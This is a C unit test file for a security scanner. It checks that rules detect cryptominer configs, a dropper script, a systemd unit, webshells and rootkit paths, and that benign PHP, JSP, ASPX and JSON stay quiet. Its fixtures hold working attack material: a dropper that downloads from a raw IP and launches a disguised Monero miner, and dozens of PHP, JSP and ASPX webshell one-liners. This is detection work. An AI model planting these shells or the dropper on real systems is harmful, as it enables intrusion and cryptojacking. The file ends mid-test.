/*
 * test_content.c - the miner and webshell rules: an XMRig config, a
 * dropper script, a systemd unit and a miner binary's strings are
 * found, whole and cut into chunks at every boundary; common webshell
 * one-liners and snippets (PHP, JSP, ASPX) are found; benign PHP from
 * WordPress, Laravel, Composer and phpMyAdmin, JSP, ASPX and everyday
 * JSON configs stay quiet
 */
#include <stdlib.h>

#include "unit.h"
#include "rules/content.h"
#include "rules/rootkits.h"

#define WALLET	"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7" \
		"SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

static const char xmrig_config[] =
    "{\n"
    "    \"api\": {\n"
    "        \"id\": null,\n"
    "        \"worker-id\": null\n"
    "    },\n"
    "    \"http\": { \"enabled\": false, \"host\": \"127.0.0.1\", "
    "\"port\": 0 },\n"
    "    \"autosave\": true,\n"
    "    \"background\": true,\n"
    "    \"colors\": true,\n"
    "    \"randomx\": {\n"
    "        \"init\": -1,\n"
    "        \"mode\": \"auto\",\n"
    "        \"1gb-pages\": false,\n"
    "        \"numa\": true\n"
    "    },\n"
    "    \"cpu\": { \"enabled\": true, \"huge-pages\": true, "
    "\"max-threads-hint\": 100 },\n"
    "    \"donate-level\": 1,\n"
    "    \"donate-over-proxy\": 1,\n"
    "    \"log-file\": null,\n"
    "    \"pools\": [\n"
    "        {\n"
    "            \"algo\": \"rx/0\",\n"
    "            \"coin\": \"monero\",\n"
    "            \"url\": \"stratum+tcp://pool.supportxmr.com:3333\",\n"
    "            \"user\": \"" WALLET "\",\n"
    "            \"pass\": \"x\",\n"
    "            \"keepalive\": true,\n"
    "            \"tls\": false\n"
    "        }\n"
    "    ],\n"
    "    \"print-time\": 60\n"
    "}\n";

static const char dropper[] =
    "#!/bin/bash\n"
    "ulimit -n 65535\n"
    "pkill -f kdevtmpfsi\n"
    "mkdir -p /var/tmp/.x && cd /var/tmp/.x\n"
    "curl -fsSL http://45.9.148.35/xm.tar | tar x\n"
    "chmod +x ./sshd\n"
    "nohup ./sshd -o gulf.moneroocean.stream:10128 -u " WALLET
    " -k --tls >/dev/null 2>&1 &\n";

static const char unit[] =
    "[Unit]\n"
    "Description=System monitor\n"
    "After=network.target\n\n"
    "[Service]\n"
    "ExecStart=/usr/local/bin/systemd-monitor "
    "--url=stratum+ssl://xmr-eu1.nanopool.org:14433 --algo=rx/0 "
    "--donate-level=1 --cpu-max-threads-hint=75\n"
    "Restart=always\n\n"
    "[Install]\nWantedBy=multi-user.target\n";

/* Whether OUT (N matches) holds RULE; its index in *AT. */
static bool
has(const struct content_match *out, size_t n, enum content_rule rule,
    size_t *at)
{
	size_t	i;

	for (i = 0; i < n; i++)
		if (out[i].rule == rule) {
			if (at != NULL)
				*at = i;
			return true;
		}
	return false;
}

static size_t
miner(const char *s, struct content_match *out)
{
	size_t	 len = strlen(s), n;
	char	*p = malloc(len ? len : 1);

	if (p == NULL)
		abort();
	memcpy(p, s, len);
	n = miner_scan(p, len, out, CONTENT_MATCH_MAX);
	free(p);
	return n;
}

TEST(content_miner_config)
{
	struct content_match	m[CONTENT_MATCH_MAX];
	size_t			n, i;

	ASSERT_INT(strlen(WALLET), 95);
	n = miner(xmrig_config, m);
	ASSERT_INT(n, 5);
	/* "randomx" as a word, as in XMRig's binary too */
	ASSERT(has(m, n, CONTENT_MINER_BINARY, NULL));
	ASSERT(has(m, n, CONTENT_MINER_STRATUM, &i));
	ASSERT_INT(m[i].sev, SEV_HIGH);
	ASSERT_INT(m[i].off, strstr(xmrig_config, "stratum+tcp") -
	    xmrig_config);
	ASSERT(m[i].excerpt_len > 0 && m[i].excerpt_len <=
	    CONTENT_EXCERPT_LEN);
	ASSERT(memmem(m[i].excerpt, m[i].excerpt_len, "stratum+tcp://", 14));
	ASSERT(has(m, n, CONTENT_MINER_POOL, &i));
	ASSERT(has(m, n, CONTENT_MINER_WALLET, &i));
	ASSERT_INT(m[i].off, strstr(xmrig_config, WALLET) - xmrig_config);
	ASSERT(has(m, n, CONTENT_MINER_CONFIG, &i));
	/* The worst of the config keys, the first of those. */
	ASSERT_INT(m[i].sev, SEV_HIGH);
	ASSERT_STR(m[i].detail, "donate-level");
	/* In file order. */
	for (i = 1; i < n; i++)
		ASSERT(m[i - 1].off <= m[i].off);
	ASSERT_STR(content_rule_name(CONTENT_MINER_STRATUM),
	    "miner.stratum_url");
}

TEST(content_miner_script_and_unit)
{
	struct content_match	m[CONTENT_MATCH_MAX];
	size_t			n, i;

	n = miner(dropper, m);
	ASSERT(has(m, n, CONTENT_MINER_POOL, &i));
	ASSERT_STR(m[i].detail, "moneroocean.stream");
	ASSERT(has(m, n, CONTENT_MINER_WALLET, NULL));
	ASSERT(!has(m, n, CONTENT_MINER_STRATUM, NULL));

	n = miner(unit, m);
	ASSERT(has(m, n, CONTENT_MINER_STRATUM, NULL));
	ASSERT(has(m, n, CONTENT_MINER_POOL, NULL));
	ASSERT(has(m, n, CONTENT_MINER_CONFIG, NULL));

	n = miner("/tmp/.X/kthreadd -o stratum2+tcp://10.0.0.1:3333 -B", m);
	ASSERT(has(m, n, CONTENT_MINER_STRATUM, NULL));
	n = miner("STRATUM+SSL://x:1", m);
	ASSERT(has(m, n, CONTENT_MINER_STRATUM, NULL));
}

TEST(content_miner_binary)
{
	char			 bin[4096];
	struct content_match	 m[CONTENT_MATCH_MAX];
	struct content_stream	*s;
	size_t			 n, i;
	uint32_t		 x = 7;

	for (i = 0; i < sizeof(bin); i++) {
		x = x * 1103515245 + 12345;
		bin[i] = (char)(x >> 16);
	}
	memcpy(bin, "\177ELF", 4);
	memcpy(bin + 1000, "XMRig/6.21.0 (Linux x86_64)\0", 28);
	memcpy(bin + 3000, "\0cn/0\0cryptonight\0", 18);
	s = content_stream_new(CONTENT_MINER);
	content_stream_feed(s, bin, sizeof(bin));
	n = content_stream_finish(s);
	ASSERT(has(s->match, n, CONTENT_MINER_BINARY, &i));
	ASSERT_INT(s->match[i].off, 1000);
	ASSERT_INT(s->match[i].sev, SEV_HIGH);
	content_stream_free(s);

	/* Words that merely contain the strings, prose. */
	ASSERT_INT(miner("librandomxyz notrandomx", m), 0);
	ASSERT_INT(miner("use a randomized pool of workers", m), 0);
}

/* Feed S in pieces of STEP bytes, each from its own exact buffer. */
static size_t
stream(const char *s, size_t len, size_t step, struct content_match *out)
{
	struct content_stream	*st = content_stream_new(CONTENT_MINER);
	size_t			 i, k, n;
	char			*p;

	for (i = 0; i < len; i += k) {
		k = len - i < step ? len - i : step;
		if ((p = malloc(k)) == NULL)
			abort();
		memcpy(p, s + i, k);
		content_stream_feed(st, p, k);
		free(p);
	}
	n = content_stream_finish(st);
	memcpy(out, st->match, sizeof(st->match));
	content_stream_free(st);
	return n;
}

static bool
same(const struct content_match *a, size_t na, const struct content_match *b,
    size_t nb)
{
	size_t	i;

	if (na != nb)
		return false;
	for (i = 0; i < na; i++)
		if (a[i].rule != b[i].rule || a[i].off != b[i].off ||
		    a[i].sev != b[i].sev)
			return false;
	return true;
}

TEST(content_miner_chunk_boundaries)
{
	struct content_match	whole[CONTENT_MATCH_MAX], m[CONTENT_MATCH_MAX];
	static const size_t	steps[] = { 1, 2, 3, 7, 13, 64, 255, 256, 257,
	    1000 };
	const char		*texts[] = { xmrig_config, dropper, unit };
	size_t			 nw, n, t, i, len;
	struct content_stream	*st;

	for (t = 0; t < 3; t++) {
		len = strlen(texts[t]);
		nw = miner(texts[t], whole);
		ASSERT(nw > 0);
		for (i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
			n = stream(texts[t], len, steps[i], m);
			if (!same(whole, nw, m, n))
				unit_fail(__FILE__, __LINE__, "text %zu step "
				    "%zu: %zu matches, want %zu", t, steps[i],
				    n, nw);
		}
		/* Two chunks, cut at every byte. */
		for (i = 0; i <= len; i++) {
			st = content_stream_new(CONTENT_MINER);
			content_stream_feed(st, texts[t], i);
			content_stream_feed(st, texts[t] + i, len - i);
			n = content_stream_finish(st);
			if (!same(whole, nw, st->match, n))
				unit_fail(__FILE__, __LINE__, "text %zu cut "
				    "%zu", t, i);
			content_stream_free(st);
		}
	}
}

/* A pattern across a boundary deep inside a large file. */
TEST(content_miner_large_stream)
{
	struct content_stream	*st = content_stream_new(CONTENT_MINER);
	char			*big = calloc(1, 300000);
	size_t			 n, i;

	ASSERT(big != NULL);
	memset(big, 'a', 300000);
	memcpy(big + 65536 - 5, " stratum+tcp://", 15);
	memcpy(big + 200000 - 40, " " WALLET " ", 97);
	content_stream_feed(st, big, 100000);
	content_stream_feed(st, big + 100000, 200000);
	n = content_stream_finish(st);
	ASSERT_INT(n, 2);
	ASSERT(has(st->match, n, CONTENT_MINER_STRATUM, &i));
	ASSERT_INT(st->match[i].off, 65536 - 4);
	ASSERT(has(st->match, n, CONTENT_MINER_WALLET, &i));
	ASSERT_INT(st->match[i].off, 200000 - 39);
	content_stream_free(st);
	free(big);
}

TEST(content_miner_wallet_edges)
{
	struct content_match	m[CONTENT_MATCH_MAX];
	char			s[300];

	/* Alone: found; inside a longer base58 run or with 0: not. */
	ASSERT_INT(miner(WALLET, m), 1);
	snprintf(s, sizeof(s), "x%s", WALLET);
	ASSERT_INT(miner(s, m), 0);
	snprintf(s, sizeof(s), "%sz", WALLET);
	ASSERT_INT(miner(s, m), 0);
	snprintf(s, sizeof(s), "%s", WALLET);
	s[50] = '0';
	ASSERT_INT(miner(s, m), 0);
	/* Integrated address: 106. */
	snprintf(s, sizeof(s), "u=%s11111111111.", WALLET);
	ASSERT_INT(miner(s, m), 1);
	/* A hex digest of 95 is no wallet: it holds a 0 or is not 95. */
	ASSERT_INT(miner("sha256: 4f2b6b0c9c2e1a3d4e5f60718293a4b5c6d7e8f9"
	    "4f2b6b0c9c2e1a3d4e5f60718293a4b5c6d7e8f9", m), 0);
}

TEST(content_benign_json_quiet)
{
	static const char *const benign[] = {
	    /* package.json */
	    "{\n  \"name\": \"web\",\n  \"version\": \"1.2.0\",\n"
	    "  \"scripts\": { \"build\": \"vite build\", \"test\": "
	    "\"vitest\" },\n  \"dependencies\": { \"react\": \"^18.2.0\", "
	    "\"crypto-js\": \"^4.2.0\" },\n  \"devDependencies\": { "
	    "\"typescript\": \"^5.4.0\" }\n}\n",
	    /* tsconfig.json */
	    "{\n  \"compilerOptions\": {\n    \"target\": \"ES2020\",\n"
	    "    \"module\": \"ESNext\",\n    \"strict\": true,\n"
	    "    \"paths\": { \"@/*\": [\"./src/*\"] }\n  },\n"
	    "  \"include\": [\"src\"]\n}\n",
	    /* composer.json */
	    "{\n    \"name\": \"laravel/laravel\",\n"
	    "    \"type\": \"project\",\n"
	    "    \"require\": { \"php\": \"^8.1\", \"guzzlehttp/guzzle\": "
	    "\"^7.2\", \"laravel/framework\": \"^10.10\" },\n"
	    "    \"autoload\": { \"psr-4\": { \"App\\\\\": \"app/\" } },\n"
	    "    \"config\": { \"optimize-autoloader\": true, "
	    "\"sort-packages\": true }\n}\n",
	    /* a Grafana dashboard */
	    "{\n  \"annotations\": { \"list\": [] },\n  \"editable\": true,\n"
	    "  \"panels\": [ { \"datasource\": { \"type\": \"prometheus\", "
	    "\"uid\": \"P1809F7CD0C75ACF3\" }, \"targets\": [ { \"expr\": "
	    "\"rate(node_cpu_seconds_total{mode!=\\\"idle\\\"}[5m])\", "
	    "\"refId\": \"A\" } ], \"title\": \"CPU\", \"type\": "
	    "\"timeseries\" } ],\n  \"schemaVersion\": 38,\n"
	    "  \"uid\": \"rYdddlPWk\"\n}\n",
	    /* a hashing config, an nginx pool, prose */
	    "{ \"algo\": \"sha256\", \"pools\": 4 }",
	    "upstream php { server unix:/run/php/php8.2-fpm.sock; }\n"
	    "# pool of php-fpm workers\n",
	    "The stratum of rock; a random walk; monero is a coin.",
	    NULL
	};
	struct content_match	m[CONTENT_MATCH_MAX];
	size_t			i, n;

	for (i = 0; benign[i] != NULL; i++)
		if ((n = miner(benign[i], m)) != 0)
			unit_fail(__FILE__, __LINE__, "benign %zu: %s", i,
			    content_rule_name(m[0].rule));
}

static size_t
ws(const char *name, const char *s, struct content_match *out)
{
	size_t	 len = strlen(s), n;
	char	*p = malloc(len ? len : 1);

	if (p == NULL)
		abort();
	memcpy(p, s, len);
	n = webshell_scan(name, p, len, out, CONTENT_MATCH_MAX);
	free(p);
	return n;
}

/* The worst severity among OUT. */
static enum severity
worst(const struct content_match *out, size_t n)
{
	enum severity	s = SEV_INFO;
	size_t		i;

	for (i = 0; i < n; i++)
		if (out[i].sev > s)
			s = out[i].sev;
	return s;
}

static const struct {
	const char		*name;
	const char		*text;
	enum content_rule	 rule;
	enum severity		 sev;
} shells[] = {
	/* China Chopper, PHP */
	{ "x.php", "<?php @eval($_POST['chopper']);?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php system($_GET['c']); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php echo shell_exec($_REQUEST['cmd']); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php if(isset($_GET[\"cmd\"])){ echo \"<pre>\"; "
	    "passthru($_GET[\"cmd\"]); echo \"</pre>\"; } ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php\n$c = $_GET['c'];\necho \"<pre>\";\n"
	    "exec($c, $out);\nprint_r($out);\n?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php echo `$_GET[c]`; ?>",
	    CONTENT_WEBSHELL_BACKTICK, SEV_HIGH },
	{ "x.php", "<?php $_GET['a']($_GET['b']); ?>",
	    CONTENT_WEBSHELL_DYNAMIC_CALL, SEV_HIGH },
	{ "x.php", "<?php $f = \"sys\" . 'tem'; $f($_POST['x']); ?>",
	    CONTENT_WEBSHELL_DYNAMIC_CALL, SEV_HIGH },
	{ "x.php", "<?php $a = str_rot13('flfgrz'); $a($_GET['c']); ?>",
	    CONTENT_WEBSHELL_DYNAMIC_CALL, SEV_HIGH },
	{ "x.php", "<?php eval(gzinflate(base64_decode('7X1rcxs5ku+/"
	    "Sv+HMuc8FVKJkuxNpOK0Ul6zS9kt7WqvbWhYX0kqW1Iqm3uq6Q==')));?>",
	    CONTENT_WEBSHELL_DECODE_EVAL, SEV_MEDIUM },
	{ "x.php", "<?php preg_replace(\"/.*/e\", $_POST['code'], \"\");",
	    CONTENT_WEBSHELL_PREG_E, SEV_HIGH },
	{ "x.php", "<?php $x = create_function('', $_POST['f']); $x(); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php assert($_REQUEST['a']); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php $h = getallheaders();\nif (isset($h['X-Code']))\n"
	    "    eval($h['X-Code']);\n",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php eval(file_get_contents('php://input')); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php $p = popen($_GET['cmd'], 'r');\n"
	    "while (!feof($p)) echo fgets($p);\npclose($p);",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php $d = array(0 => array('pipe', 'r'));\n"
	    "$h = proc_open($_POST['c'], $d, $pipes);",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php pcntl_exec('/bin/sh', array('-c', "
	    "$_GET['c'])); ?>", CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php if (isset($_SERVER['HTTP_X_CMD'])) "
	    "system($_SERVER['HTTP_X_CMD']); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php $cmd=$_REQUEST[\"cmd\"]; echo \"<pre>\"."
	    "shell_exec($cmd).\"</pre>\"; ?>", CONTENT_WEBSHELL_EXEC_INPUT,
	    SEV_HIGH },
	{ "x.jsp", "<% javax.script.ScriptEngine e = new javax.script."
	    "ScriptEngineManager().getEngineByName(\"js\");\n"
	    "e.eval(request.getParameter(\"code\")); %>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php @eval(stripslashes($_COOKIE['c'])); ?>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php\n$code = base64_decode($_POST['c']);\n"
	    "eval($code);\n", CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.php", "<?php array_map('assert', array($_POST['x'])); ?>",
	    CONTENT_WEBSHELL_DYNAMIC_CALL, SEV_HIGH },
	{ "x.php", "<?php call_user_func($_GET['f'], $_GET['a']); ?>",
	    CONTENT_WEBSHELL_DYNAMIC_CALL, SEV_HIGH },
	{ "x.php", "<?php\n$default_action = 'FilesMan';\n"
	    "$default_use_ajax = true;\n", CONTENT_WEBSHELL_KNOWN, SEV_HIGH },
	{ "x.php", "<?php /* b374k shell 3.2.3 */ $s_pass = '0de664';",
	    CONTENT_WEBSHELL_KNOWN, SEV_HIGH },
	{ "x.php", "<?php @session_start(); $key=\"e45e329feb5d925b\"; "
	    "$_SESSION['k']=$key;", CONTENT_WEBSHELL_KNOWN, SEV_HIGH },
	/* JSP */
	{ "x.jsp", "<% Process p = Runtime.getRuntime().exec("
	    "request.getParameter(\"cmd\")); %>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.jsp", "<%\nString cmd = request.getParameter(\"cmd\");\n"
	    "if (cmd != null) {\n  Process p = Runtime.getRuntime().exec("
	    "new String[] {\"/bin/sh\", \"-c\", cmd});\n}\n%>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.jsp", "<% new ProcessBuilder(\"bash\", \"-c\", "
	    "request.getParameter(\"c\")).start(); %>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	/* ASPX */
	{ "x.aspx", "<%@ Page Language=\"C#\" %><% "
	    "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + "
	    "Request[\"c\"]); %>", CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item["
	    "\"pass\"],\"unsafe\");%>", CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	{ "x.aspx", "<script runat=\"server\">\nvoid Page_Load() {\n"
	    "  ProcessStartInfo psi = new ProcessStartInfo();\n"
	    "  psi.FileName = \"cmd.exe\";\n"
	    "  psi.Arguments = \"/c \" + Request.Form[\"cmd\"];\n"
	    "  Process.Start(psi);\n}\n</script>",
	    CONTENT_WEBSHELL_EXEC_INPUT, SEV_HIGH },
	/* An image that is PHP */
	{ "avatar.gif", "GIF89a\001\002\001\002<?php system($_GET['c']); ?>",
	    CONTENT_WEBSHELL_IMAGE_PHP, SEV_HIGH },
	{ "logo.JPG", "\377\330\377\340\001\020JFIF\001<?=`$_GET[0]`?>",
	    CONTENT_WEBSHELL_IMAGE_PHP, SEV_HIGH },
};

TEST(content_webshells_found)
{
	struct content_match	m[CONTENT_MATCH_MAX];
	size_t			i, n, at;

	ASSERT(sizeof(shells) / sizeof(shells[0]) >= 20);
	for (i = 0; i < sizeof(shells) / sizeof(shells[0]); i++) {
		n = ws(shells[i].name, shells[i].text, m);
		if (!has(m, n, shells[i].rule, &at)) {
			unit_fail(__FILE__, __LINE__, "shell %zu: no %s (%zu "
			    "matches)", i, content_rule_name(shells[i].rule),
			    n);
			continue;
		}
		if (m[at].sev != shells[i].sev)
			unit_fail(__FILE__, __LINE__, "shell %zu: %s is %d, "
			    "want %d", i, content_rule_name(m[at].rule),
			    m[at].sev, shells[i].sev);
		if (m[at].off >= strlen(shells[i].text) ||
		    m[at].excerpt_len == 0)
			unit_fail(__FILE__, __LINE__, "shell %zu: offset", i);
	}
}

static const char *const benign_code[] = {
	/* WordPress wp-login.php */
	"<?php\n$action = isset( $_REQUEST['action'] ) ? $_REQUEST['action'] "
	": 'login';\n$errors = new WP_Error();\nif ( isset( $_GET['key'] ) ) "
	"{\n\t$action = 'resetpass';\n}\ndo_action( 'login_init' );\n"
	"do_action( \"login_form_{$action}\" );\nswitch ( $action ) {\n"
	"\tcase 'logout':\n\t\tcheck_admin_referer( 'log-out' );\n",
	/* WordPress wp-includes: base64 of data, never code */
	"<?php\nfunction wp_get_attachment_thumb_file( $post_id = 0 ) {\n"
	"\t$decoded = base64_decode( $value, true );\n"
	"\tif ( false === $decoded ) {\n\t\treturn false;\n\t}\n"
	"\treturn unserialize( $decoded );\n}\n",
	/* WordPress plugin.php */
	"<?php\nforeach ( $the_['function'] as $the_ ) {\n"
	"\tcall_user_func_array( $the_['function'], array_slice( $args, 0, "
	"(int) $the_['accepted_args'] ) );\n}\n",
	/* WordPress formatting.php */
	"<?php\n$text = preg_replace( '/&([^#])(?![a-z1-4]{1,8};)/i', "
	"'&#038;$1', $text );\n$text = preg_replace( \"/(\\r\\n|\\r)/\", "
	"\"\\n\", $text );\n$s = preg_replace('~<!--more(.*?)?-->~', '', "
	"$_POST['content']);\n",
	/* Laravel artisan */
	"#!/usr/bin/env php\n<?php\ndefine('LARAVEL_START', microtime(true));"
	"\nrequire __DIR__.'/vendor/autoload.php';\n$app = require_once "
	"__DIR__.'/bootstrap/app.php';\n$kernel = $app->make(Illuminate\\"
	"Contracts\\Console\\Kernel::class);\n$status = $kernel->handle(\n"
	"    $input = new Symfony\\Component\\Console\\Input\\ArgvInput,\n"
	"    new Symfony\\Component\\Console\\Output\\ConsoleOutput\n);\n"
	"$kernel->terminate($input, $status);\nexit($status);\n",
	/* Composer autoload_real.php */
	"<?php\nclass ComposerAutoloaderInit {\n  public static function "
	"getLoader() {\n    spl_autoload_register(array('ComposerAutoloader"
	"Init', 'loadClassLoader'), true, true);\n    call_user_func(\\"
	"Composer\\Autoload\\ComposerStaticInit::getInitializer($loader));\n"
	"    foreach ($filesToLoad as $fileIdentifier => $file) {\n"
	"        include $file;\n    }\n  }\n}\n",
	/* phpMyAdmin-style export through a program */
	"<?php\n$command = escapeshellcmd($this->binary) . ' --version';\n"
	"exec($command . ' 2>&1', $output, $ret);\n"
	"$db = $_POST['db'];\n$dbi->selectDb($db);\n",
	/* PDO and mysqli methods named exec */
	"<?php\n$pdo->exec(\"CREATE TABLE t (id INT)\");\n"
	"$stmt = $pdo->prepare('SELECT * FROM u WHERE id = ?');\n"
	"$stmt->execute([$_POST['id']]);\nDB::exec($_GET['q']);\n",
	/* curl */
	"<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, "
	"$_GET['url']);\n$r = curl_exec($ch);\n",
	/* Laravel controller */
	"<?php\npublic function store(Request $request) {\n"
	"    $name = $request->input('name');\n"
	"    $process = new Process(['git', 'pull']);\n    $process->run();"
	"\n    return redirect()->back();\n}\n",
	/* callbacks from a table */
	"<?php\n$callback = $this->callbacks[$name];\n"
	"return $callback($_POST);\n",
	/* escaping output */
	"<?php echo htmlspecialchars($_GET['q'], ENT_QUOTES, 'UTF-8'); ?>",
	/* CLI scripts running fixed commands */
	"<?php\nsystem('clear');\n$rev = shell_exec('git rev-parse HEAD');\n"
	"passthru('composer install --no-dev');\n",
	/* assertions */
	"<?php\nassert($x > 0);\n$this->assertEquals($_GET, []);\n",
	/* defining a method called system or exec */
	"<?php\nclass Shell {\n  public function exec($cmd) { return "
	"$this->run($cmd); }\n  public static function system($a) {}\n}\n"
	"$s->exec($_GET['x']);\n",
	/* an include of a page by name */
	"<?php\n$page = $_GET['page'];\ninclude 'pages/' . basename($page) . "
	"'.php';\n",
	/* a template with JavaScript backticks */
	"<script>\nconst t = `${name} ${count}`;\n</script>\n<?php echo "
	"esc_html($title); ?>\n",
	/* smarty-like compiled template */
	"<?php\n$tpl = file_get_contents($path);\neval('?>' . $tpl);\n",
	/* JSP printing a parameter, a fixed command */
	"<%@ page contentType=\"text/html\" %>\n<p>Hello <%= "
	"org.owasp.encoder.Encode.forHtml(request.getParameter(\"name\")) "
	"%></p>\n<% int n = Runtime.getRuntime().availableProcessors(); "
	"Runtime.getRuntime().exec(\"uptime\"); %>\n",
	/* ASP.NET page */
	"<%@ Page Language=\"C#\" %>\n<asp:Label ID=\"l\" runat=\"server\" "
	"/>\n<% Response.Write(Server.HtmlEncode(Request.QueryString[\"q\"]));"
	" %>\n",
	/* WordPress update code with exec-like names in strings */
	"<?php\n$msg = __( 'The exec() function is disabled on this server.' "
	");\nif ( function_exists( 'exec' ) ) { $can = true; }\n",
	/* an upload handler */
	"<?php\nif (move_uploaded_file($_FILES['f']['tmp_name'], $target)) {"
	"\n    echo 'ok';\n}\n",
	NULL
};

TEST(content_benign_code_quiet)
{
	struct content_match	m[CONTENT_MATCH_MAX];
	size_t			i, n;

	for (i = 0; benign_code[i] != NULL; i++) {
		n = ws(i % 3 == 0 ? "index.php" : i % 3 == 1 ? "x.jsp" : NULL,
		    benign_code[i], m);
		if (worst(m, n) > SEV_LOW)
			unit_fail(__FILE__, __LINE__, "benign %zu: %s (%s)", i,
			    content_rule_name(m[0].rule), m[0].detail);
	}
	ASSERT(i >= 20);
}

TEST(content_image_names)
{
	struct content_match	m[CONTENT_MATCH_MAX];
	char			jpeg[2048];
	size_t			i;
	uint32_t		x = 99;

	ASSERT(content_is_image_name("/var/www/up/a.JPEG"));
	ASSERT(content_is_image_name("x.webp"));
	ASSERT(!content_is_image_name("jpg"));
	ASSERT(!content_is_image_name("x.php"));
	ASSERT(!content_is_image_name(NULL));
	/* PHP in a .php file is no polyglot. */
	ASSERT_INT(ws("x.php", "<?php echo 1; ?>", m), 0);
	/* Random image bytes with a bare "<?=" stay quiet. */
	for (i = 0; i < sizeof(jpeg); i++) {
		x = x * 1103515245 + 12345;
		jpeg[i] = (char)(x >> 16);
	}
	memcpy(jpeg, "\377\330\377\340", 4);
	memcpy(jpeg + 100, "<?=\377\001", 5);
	memcpy(jpeg + 200, "<?php\377", 6);
	jpeg[sizeof(jpeg) - 1] = '\0';
	for (i = 0; i < sizeof(jpeg) - 1; i++)
		if (jpeg[i] == '\0')
			jpeg[i] = 1;
	ASSERT_INT(ws("photo.jpg", jpeg, m), 0);
}

TEST(content_php_tag_stream)
{
	struct content_stream	*st = content_stream_new(CONTENT_PHP);
	size_t			 n;

	content_stream_feed(st, "GIF89a....<?p", 13);
	content_stream_feed(st, "hp\nsystem($_GET[1]);", 20);
	n = content_stream_finish(st);
	ASSERT_INT(n, 1);
	ASSERT_INT(st->match[0].rule, CONTENT_PHP_TAG);
	ASSERT_INT(st->match[0].off, 10);
	content_stream_free(st);
}

TEST(content_rootkit_paths)
{
	const struct rootkit_entry	*tab, *e;
	size_t				 n, i;

	tab = rootkit_builtin(&n);
	ASSERT(n > 100);
	for (i = 0; i < n; i++)
		if (tab[i].path_len == 0 || tab[i].family_len == 0 ||
		    tab[i].source_len == 0 ||
		    strlen(tab[i].path) != tab[i].path_len)
			unit_fail(__FILE__, __LINE__, "entry %zu", i);
	ASSERT((e = rootkit_match(tab, n, "/lib/libns2.so")) != NULL);
	ASSERT_STR(e->family, "Ebury");
	/* usr-merged, and a name anywhere */
	ASSERT((e = rootkit_match(tab, n, "/usr/lib/libns2.so")) != NULL);
	ASSERT((e = rootkit_match(tab, n,
	    "/usr/lib64/libkeyutils.so.1.9")) != NULL);
	ASSERT_STR(e->family, "Ebury");
	ASSERT((e = rootkit_match(tab, n, "/reptile")) != NULL);
	ASSERT_STR(e->family, "Reptile");
	ASSERT((e = rootkit_match(tab, n, "/reptile/reptile_cmd")) != NULL);
	ASSERT((e = rootkit_match(tab, n, "/lib/udev/reptile")) != NULL);
	ASSERT((e = rootkit_match(tab, n,
	    "/usr/local/lib/libprocesshider.so")) != NULL);
	ASSERT_STR(e->family, "libprocesshider");
	ASSERT((e = rootkit_match(tab, n, "/var/tmp/.x/kdevtmpfsi")) != NULL);
	ASSERT_STR(e->family, "kinsing");
	ASSERT((e = rootkit_match(tab, n, "/usr/doc/... /x")) != NULL);
	ASSERT_STR(e->family, "ark");
	/* Neighbours and prefixes are not matches. */
	ASSERT(rootkit_match(tab, n, "/lib/libns2.so.1") == NULL);
	ASSERT(rootkit_match(tab, n, "/reptiles") == NULL);
	ASSERT(rootkit_match(tab, n, "/usr/bin/ls") == NULL);
	ASSERT(rootkit_match(tab, n, "/usr/lib/x86_64-linux-gnu/"
	    "libkeyutils.so.1.10") == NULL);
	ASSERT(rootkit_match(tab, n, "") == NULL);
	ASSERT(rootkit_match(tab, n, "/") == NULL);
}

struct collected {
	struct rootkit_entry	e[8];
	size_t			n;
};

static int
collect_fn(const struct rootkit_entry *e, void *arg)
{
	struct collected	*c = arg;

	if (c->n < 8)
		c->e[c->n] = *e;
	c->n++;
	return 0;
}

TEST(content_rootkit_db_parse)
{
	static const char	text[] =
	    "# extra leads\n"
	    "/opt/.cache/kthreaddk\tcustom miner\tincident 2026-11\r\n"
	    "\n"
	    "libsneaky.so\tSneaky\tlocal note\n"
	    "no tabs here\n"
	    "rel/path\tX\tY\n"
	    "/a\t\tempty family\n"
	    "/b\tB\tsource\textra\n"
	    "/c\tC\tlast line, no newline";
	struct collected	c = { .n = 0 };
	const struct rootkit_entry	*e;

	ASSERT_INT(rootkit_db_parse(text, sizeof(text) - 1, collect_fn, &c),
	    4);
	ASSERT_INT(c.n, 3);
	ASSERT_INT(c.e[0].path_len, strlen("/opt/.cache/kthreaddk"));
	ASSERT_INT(c.e[0].source_len, strlen("incident 2026-11"));
